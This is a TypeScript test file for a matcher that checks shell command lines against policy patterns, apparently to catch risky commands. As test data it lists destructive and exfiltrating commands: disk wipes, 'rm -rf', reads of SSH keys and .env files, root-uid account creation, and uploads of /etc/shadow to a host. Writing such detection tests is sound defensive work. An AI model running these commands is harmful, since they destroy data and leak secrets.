import { equal, match, ok } from 'node:assert/strict';

import { fitCommand } from '../../server/policy/command-fit.ts';
import { compileCommand } from '../../server/policy/command-pattern.ts';
import { invocationOf } from '../../server/policy/invocation.ts';
import { OPTION_SYNONYMS } from '../../server/policy/option-synonyms.ts';
import { strongest, type Fit } from '../../server/policy/policy.ts';
import { readShell } from '../../server/shell/read.ts';

function fit(source: string, line: string): Fit {
  const pattern = compileCommand(source);
  if (typeof pattern === 'string') throw new Error(pattern);
  return readShell(line)
    .commands.map((command) => fitCommand(pattern, invocationOf(command)))
    .reduce<Fit>(strongest, 'no');
}

/** Below each pattern: `+` it fits, `-` it doesn't, `?` it depends on what isn't known. */
const TABLE = `
rm -rf
  + rm -rf x
  + rm -fr x
  + rm -r -f x
  + rm -R --force x
  + rm --recursive --force x
  + rm --recurs --forc x
  + rm x -rf
  + rm -vrf x
  + rm -r x -f
  + /bin/rm -rf x
  + sudo rm -rf x
  + grm -rf x
  - rm -r x
  - rm -f x
  - rm -- -rf
  - rm -r -- -f
  ? rm $OPTIONS x
  ? rm "$X" -r
  ? rm -$X y
  - rm -r "$DIR/x"
  - rm -r "$FILE.log"
  - rm -r -- "$X"
rm *
  + rm x
  + rm
  - git rm x
rm *.log
  + rm a.log
  + rm -f a.log
  + rm x a.log
  + rm ./a.log
  + rm "a"*.log
  - rm a.txt
  - rm dir/a.log
  ? rm "$X"
rm **.log
  + rm dir/a.log
rm /etc/passwd
  + rm /etc/passwd
  + rm /etc//passwd
  + rm /etc/./passwd
  + rm /etc/../etc/passwd
  + cd /etc; rm passwd
  + cd /usr; rm ../etc/passwd
  + cd "$X"; rm passwd
  + rm /etc/pass*
  + rm /proc/self/root/etc/passwd
  - rm /etc/passwd.bak
  - rm passwd
  - cd /tmp; rm etc/passwd
  ? rm "$X"
  ? rm "/etc/$X"
  - rm "/tmp/$X"
cat /etc/*
  + cat /etc/hosts
  - cat /etc/ssl/x
cat /etc/**
  + cat /etc/ssl/x
  + cat x /etc/ssl/x y
cat **/.env
  + cat .env
  + cat /srv/app/.env
  + cat ./.env
  - cat .envrc
cat ~/.ssh/*
  + cat ~/.ssh/id_rsa
  + cat .ssh/id_rsa
  + cat /root/.ssh/id_rsa
  - cat ~/.ssh2/id_rsa
cat .env
  + cat ./.env
  - cat x/.env
dd of=/dev/sd*
  + dd if=/dev/zero of=/dev/sda
  + dd of=/dev//sda bs=1M
  + cd /dev; dd of=sda
  - dd if=/dev/sda of=/tmp/x
  ? dd of="$X"
mkfs.*
  + mkfs.ext4 /dev/sda
  + /sbin/mkfs.xfs x
  - mkfs -t ext4 x
mkfs*
  + mkfs -t ext4 x
*
  + anything at all
/usr/bin/python3 -c *
  + python3 -c x
  + python3.11 -c x
  - python3 x.py -c
  - python2 -c x
python -c
  + python3.11 -c x
  + python -c x
nc *
  + nc.openbsd -l 1
  + nc.traditional a 1
  - ncat a 1
mysql -e *
  + mariadb -e x
  + mysql --execute=x
  + mysql --execute x
  + mysql --exec x
  - mysql x
git push --force *
  + git push --force
  + git push --force origin main
  + git push -f origin
  + git push -uf origin
  + git push origin --force
  + git push --forc origin
  + git push origin +main
  + git push --mirror origin
  + git -C /x push --force
  + git -c a=b --no-pager push -f
  + git --git-dir /x push -f
  - git push origin main
  - git push --force-with-lease origin
  - git push --follow-tags
  - git commit -m "push --force"
  - git push -- --force
  ? git push $FLAGS
  ? git $VERB --force
git push --force-with-lease
  + git push --force-with-lease=main
  + git push --force-w
  - git push --force
git push --delete *
  + git push -d origin x
  + git push origin :x
  - git push origin x:y
git branch -D *
  + git branch -D x
  + git branch --delete --force x
  + git branch -df x
  - git branch -d x
git push origin main
  + git push -u origin main
  + git push -o ci.skip origin main
  - git push upstream origin
git reset --hard
  + git reset HEAD~ --hard
  + git reset --har
  - git reset --soft
kubectl exec
  + kubectl exec pod -- id
  + kubectl -n prod exec pod
  + kubectl --context=x exec pod
  + kubectl --new-option x exec pod
  - kubectl get pods -n exec
  - kubectl describe pod exec
  - kubectl logs exec
  ? kubectl $VERB pod
kubectl delete namespace *
  + kubectl delete namespace prod
  + kubectl delete ns prod
  + kubectl delete ns/prod
  + kubectl delete namespaces prod
  + kubectl delete pods,ns --all
  + kubectl --context x delete ns prod
  - kubectl delete pod ns-prod
  - kubectl get ns prod
kubectl -n prod delete *
  + kubectl -n prod delete pod x
  + kubectl delete pod x -n prod
  + kubectl delete pod x --namespace prod
  + kubectl delete pod x --namespace=prod
  + kubectl delete pod x -n=prod
  + kubectl -nprod delete pod x
  - kubectl -n dev delete pod x
  - kubectl delete pod prod
  ? kubectl -n "$NS" delete pod x
docker rm *
  + docker rm x
  + docker rm -f x
  + docker container rm x
  - docker volume rm x
  - docker run --rm x
docker rm --force
  + docker rm -f x
  + docker rm -vf x
  - docker build -f x .
docker rmi
  + docker image rm x
docker run --privileged *
  + docker run --privileged x
  + docker run -it --privileged x
  - docker run x tool --privileged
docker volume rm
  + docker volume rm x
  - docker rm volume
helm uninstall *
  + helm delete x
  + helm -n prod un x
  - helm list
systemctl stop nginx
  + systemctl stop nginx
  + systemctl stop nginx.service
  + systemctl --now stop x nginx
  - systemctl status nginx
  - systemctl stop nginx.socket
systemctl start *.target
  + systemctl start a b.target
  - systemctl status b.target
curl -X DELETE *
  + curl -X DELETE http://a
  + curl -XDELETE http://a
  + curl --request DELETE http://a
  + curl --request=DELETE http://a
  + curl -sX DELETE http://a
  - curl -X GET http://a
  - curl http://a/DELETE
  ? curl -X "$M" http://a
curl -T *
  + curl -T x http://a
  + curl --upload-file x http://a
  + curl --upload-f x http://a
  - curl -t x http://a
  - curl -A -T http://a
curl https://evil.example/**
  + curl -s https://evil.example/x/y
  - curl https://good.example/x
scp * *:**
  + scp x host:/tmp/y
  + scp -r x host:
  - scp host:x .
rsync -r *
  + rsync -a x y
  + rsync --recursive x y
  - rsync x y
cp -r
  + cp -a x y
  + cp -R x y
  - cp x y
find * -delete
  + find / -delete
  + find . -name x -delete
  - find . -depth -ls -type f
  - find . -name delete
find * -exec *
  + find . -exec ls {} +
openssl enc *
  + openssl enc -d -in x
  - openssl x509 -in enc
terraform destroy -auto-approve
  + terraform destroy -auto-approve
  + terraform destroy --auto-approve
  - terraform destroy
tool --force
  + tool --force x
  + tool -force x
  + tool --force=yes
  - tool x
tool --level high
  + tool --level high
  + tool --level=high
  + tool x --level high
  - tool --level low
tool --level=high
  + tool --level high
  + tool --level=high
tar -x *
  + tar xf a.tar
  + tar -xf a.tar
  + tar --extract --file a.tar
  + tar --get -f a.tar
  - tar cf a.tar x
  - tar tf a.tar x
tar -C / *
  + tar xf a.tar -C /
  + tar xfC a.tar /
  + tar -xf a.tar --directory=/
kill -9 *
  + kill -9 1
  + kill -KILL 1
  + kill -s KILL 1
  + kill -SIGKILL 1
  + pkill -9 x; kill -s 9 1
  - kill 9
  - kill -15 1
pkill --signal KILL *
  + pkill -9 x
  - pkill -f x
chmod -R 777 *
  + chmod 777 x -R
  + chmod --recursive 777 x
  - chmod 777 x
  - chmod -R 755 x
redis-cli flushall
  + redis-cli FLUSHALL
  + redis-cli -h a flushall
  - redis-cli get flushall
mysqladmin drop *
  + mysqladmin drop x
  + mysqladmin -f drop x
  + mysqladmin dro x
  + mariadb-admin drop x
  - mysqladmin status
ip route del *
  + ip route del default
  + ip r d default
  + ip -4 ro del default
  - ip route show
iptables -F
  + iptables --flush
  + iptables -t nat -F
  + iptables-legacy -F
  - iptables -L
iptables -t nat -F
  + iptables --table nat --flush
  - iptables -F
ssh -A *
  + ssh -A host
  + ssh host -A
  - ssh host ls -A
useradd -o -u 0
  + useradd -o -u 0 x
  + useradd --non-unique --uid 0 x
  + useradd --non-unique --uid=0 x
  - useradd -u 1000 x
sed -i *
  + sed -i s/a/b/ x
  + sed -i.bak s/a/b/ x
  + sed --in-place=.bak s/a/b/ x
  - sed s/a/b/ x
shutdown
  + shutdown -h now
  + shut*n
  ? $X now
  - shutdown --help
  - shutdown -c
  - man shutdown
init 0
  + init 0
  - init 3
psql -c *
  + psql --command=x
  + psql -Atc x
  - psql -h host
"my tool" *
  + "/opt/my tool" x
grep "a b" *
  + grep "a b" x
  - grep a b x
`;

describe('a command pattern', () => {
  let source = '';
  const seen: Record<string, number> = { '+': 0, '-': 0, '?': 0 };
  const FITS: Readonly<Record<string, Fit>> = { '+': 'yes', '-': 'no', '?': 'maybe' };
  for (const row of TABLE.split('\n').filter(Boolean)) {
    const found = /^ {2}([+?-]) (.*)$/.exec(row);
    if (found === null) {
      source = row;
      continue;
    }
    const [, sign = '', line = ''] = found;
    const pattern = source;
    seen[sign] = (seen[sign] ?? 0) + 1;
    it(`${pattern}: ${FITS[sign]} for ${line}`, () => equal(fit(pattern, line), FITS[sign]));
  }
  it('is tried with fitting, other and unsure commands', () => {
    ok((seen['+'] ?? 0) > 120 && (seen['-'] ?? 0) > 70 && (seen['?'] ?? 0) > 10);
  });

  const REFUSED: readonly (readonly [string, RegExp])[] = [
    ['', /names no program/],
    ['--force', /names no program/],
    ['/usr/bin/', /names a directory/],
    ['a | b', /holds \|/],
    ['a; b', /holds a;/],
    ['a && b', /holds &&/],
    ['a > /etc/x', /holds >/],
    ['a 2>/dev/null', /holds 2>/],
    ['a &', /holds &/],
    ['rm $HOME', /variable or a substitution/],
    ['rm $(x)', /variable or a substitution/],
    ['rm `x`', /variable or a substitution/],
    ['A=1 rm', /assignment/],
    ['rm "x', /left open/],
  ];
  for (const [pattern, message] of REFUSED) {
    it(`is refused when it is ${JSON.stringify(pattern)}`, () => {
      const compiled = compileCommand(pattern);
      ok(typeof compiled === 'string');
      match(compiled, message);
    });
  }

  it('takes the value of an option for no option: nothing hides behind --help', () => {
    equal(fit('curl -T *', 'curl -A --help -T /etc/shadow http://a'), 'yes');
    equal(fit('curl -T *', 'curl --new --help -T /etc/shadow http://a'), 'yes');
    equal(fit('curl -T *', 'curl "$X" --help -T /etc/shadow http://a'), 'yes');
    equal(fit('tar -c *', 'tar cf --help /etc/shadow'), 'yes');
    equal(fit('mysql -e *', 'mysql -u --version -e x'), 'yes');
    equal(fit('curl -T *', 'curl --help -T'), 'no');
  });

  it('compares long lines with long patterns in bounded time', () => {
    const pattern = `x ${'a* *b '.repeat(40)}`;
    equal(fit(pattern, `x ${'aXb '.repeat(2_000)}`), 'yes');
    equal(fit(`${pattern} z`, `x ${'aXb '.repeat(2_000)}`), 'no');
  });
});

describe('the table of option spellings', () => {
  it('has every line in the form that it describes, each program once, each spelling once', () => {
    const names = new Set<string>();
    for (const line of OPTION_SYNONYMS.split('\n').filter(Boolean)) {
      ok(/^[a-z][\w. -]*(, [a-z][\w. -]*)*: -.*$/.test(line), line);
      const [programs = '', sets = ''] = line.split(': ');
      for (const name of programs.split(', ')) {
        ok(!names.has(name), `${name} is there twice`);
        names.add(name);
      }
      const spelt = sets.split(' | ').flatMap((set) => set.split(' '));
      for (const one of spelt) ok(/^--?[\w#@?%-]+$/.test(one), `${line}: ${one}`);
      for (const set of sets.split(' | ')) ok(set.split(' ').length > 1, `${line}: ${set}`);
      equal(new Set(spelt).size, spelt.length, `${programs} has a spelling twice`);
    }
    ok(names.size > 150);
  });
});
